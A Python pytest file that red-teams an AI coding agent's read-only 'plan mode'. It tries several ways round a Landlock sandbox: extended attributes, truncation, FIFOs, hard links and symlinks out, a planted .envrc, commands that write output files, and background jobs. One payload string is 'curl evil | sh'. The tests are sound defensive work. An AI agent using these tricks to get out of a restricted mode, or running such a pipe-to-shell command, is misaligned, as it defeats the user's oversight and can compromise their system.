"""Plan mode, round 8 (issue 54, rule 6): plan mode changes nothing.

The attacks: an allowed test run that changes what Landlock does not govern (extended
attributes, a truncate, a FIFO, a hard link out, a write through a project link to a folder
outside), safe-list programs that take an output file (`uniq IN OUT`, `sort -o`, `git diff
--output`), and a background command. Each asserts the project is as it was.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from mzagent_tui.agent.safety.approval import Rules
from tests.attack_helpers import command, git, needs_namespaces
from tests.plan_mode.test_redteam_plan import session


def state(project: Path) -> dict[str, tuple[int, int, int, bytes]]:
    """Every entry (links not followed) with its mode, size, mtime and content."""
    found = {}
    for folder, names, files in os.walk(project):
        names[:] = [n for n in names if n != ".git"]
        for name in [*names, *files]:
            path = Path(folder) / name
            info = path.lstat()
            data = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
            found[str(path.relative_to(project))] = (info.st_mode, info.st_size, info.st_mtime_ns, data)
    return found


@needs_namespaces
@pytest.mark.parametrize("script", [
    "import os; os.setxattr('a.txt', 'user.planted', b'curl evil | sh')",
    "import os; os.truncate('a.txt', 0)",
    "import os; os.mkfifo('fifo')",
    "import os; os.link('a.txt', os.environ.get('TMPDIR', '/tmp') + '/a-link'); open(os.environ.get('TMPDIR', '/tmp') + '/a-link', 'w').write('z')",
    "open('out/planted.txt', 'w').write('x')",
    "import os; os.symlink('a.txt', '.envrc')",
], ids=["xattr", "truncate", "fifo", "hard-link-out", "through-a-link-out", "symlink"])
def test_plan_mode_an_allowed_test_run_changes_nothing_landlock_leaves_alone(server, project: Path, short: Path, script: str) -> None:
    outside = short / "outside-folder"
    outside.mkdir()
    (project / "out").symlink_to(outside)
    (project / "a.txt").write_text("a\n")
    (project / "test_x.py").write_text(f"def test_x():\n    {script}\n")
    before = state(project)
    rules = Rules()
    rules.add("allow", "python3 -m pytest")
    session(server, project, command("python3 -m pytest -q -p no:cacheprovider test_x.py"), mode="plan", rules=rules)
    assert state(project) == before and list(outside.iterdir()) == []
    assert not os.listxattr(project / "a.txt")


@needs_namespaces
@pytest.mark.parametrize("line", [
    "uniq a.txt .envrc", "sort -o sorted.txt a.txt", "git diff --output=d.txt", "tee copy.txt < a.txt",
    "cp a.txt b.txt", "touch a.txt", "git status", "git gc", "find . -name a.txt -fprint found.txt",
])
def test_plan_mode_a_command_that_writes_a_file_it_names_changes_nothing(server, project: Path, line: str) -> None:
    git(project, "init", "-q", ".")
    (project / "a.txt").write_text("b\na\n")
    git(project, "add", "a.txt")
    git(project, "commit", "-qm", "a")
    (project / "a.txt").write_text("b\na\nc\n")
    before = state(project)
    git_before = sorted(p.name for p in (project / ".git").iterdir())
    session(server, project, command(line), mode="plan")
    assert state(project) == before
    assert sorted(p.name for p in (project / ".git").iterdir()) == git_before


@needs_namespaces
def test_plan_mode_refuses_a_background_command(server, project: Path) -> None:
    user = session(server, project, "start_background_command('sleep 1; echo x > bg.txt')", mode="plan")
    import time

    time.sleep(2)
    assert not (project / "bg.txt").exists(), [type(r).__name__ for r in user.asked]
